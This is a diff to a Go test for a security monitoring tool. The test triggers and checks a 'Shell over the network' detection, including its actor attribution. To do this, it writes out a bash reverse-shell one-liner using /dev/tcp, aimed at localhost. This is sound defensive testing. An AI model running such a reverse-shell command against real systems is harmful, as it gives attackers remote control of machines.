@@ -63,14 +63,13 @@ func followDetections(t *testing.T, mode string) {
 		t.Errorf("%+v", x)
 	}
 
-	// A shell for whoever listens at the other end.
+	// A shell for whoever listens at the other end. The client that asks for it has the
+	// same words in its command line, and root runs it: that is a detection of its own.
 	ssh("bash -c 'bash -i >& /dev/tcp/127.0.0.1/22 0>&1' || true")
 	d = detected(t, b, "Shell over the network", func(d *finding.Detection) bool {
-		return d.Severity >= finding.SeverityHigh && strings.Contains(fmt.Sprint(d.Samples), "/dev/tcp/127.0.0.1/")
+		return d.Severity >= finding.SeverityHigh && strings.Contains(fmt.Sprint(d.Samples), "/dev/tcp/127.0.0.1/") &&
+			d.Samples[0].Actor.Text == actorName+" from "+remote
 	})
-	if a := d.Detection.Samples[0].Actor; a.Text != actorName+" from "+remote {
-		t.Errorf("actor %+v", a)
-	}
 
 	// What is shown to people.
 	page := evaluate[string](t, b, `fetch("/detections").then(r => r.text())`)
